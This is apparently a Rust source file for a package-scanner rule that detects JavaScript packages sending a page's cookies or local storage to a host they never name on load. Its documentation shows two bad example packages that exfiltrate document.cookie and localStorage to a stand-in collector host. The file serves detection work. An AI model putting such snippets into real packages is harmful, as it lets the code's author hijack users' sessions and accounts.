//! # What a page stores leaves at once
//!
//! Loading the package sends cookies or local storage of the page it runs in to a host that it never names.
//!
//! ## Why it matters
//!
//! Cookies and stored tokens let their holder act as the person, without any password.
//!
//! ## Known benign uses
//!
//! Clients read their own token to send it to their own service, when they are called. Measuring scripts name
//! their host.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const picture = new Image();
//! picture.src = "https://collector.invalid/c?d=" + encodeURIComponent(document.cookie); //~ here
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! navigator.sendBeacon("https://collector.invalid/c", JSON.stringify({ ...localStorage })); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const theme = localStorage.getItem("theme");
//! fetch("https://themes.example/" + theme);
//! exports.load = (address) => fetch(address, { headers: { authorization: localStorage.getItem("token") } });
//! ```
//!
//! ## References
//!
//! - MITRE ATT&CK T1539, Steal Web Session Cookie

use crate::prelude::*;

/// What a page stores leaves at once.
pub struct PageStoreSent;

impl Rule for PageStoreSent {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "page-store-sent",
            title: "What a page stores leaves at once",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1539",
            covers: &[],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for flow in facts.flows(|source| *source == Source::PageStore, Sink::leaves_machine) {
            let is_named = flow.sink.host().is_some_and(|host| !facts.says_host(host));
            if is_named && flow.trigger.runs_unasked() {
                found.flow(flow);
            }
        }
    }
}
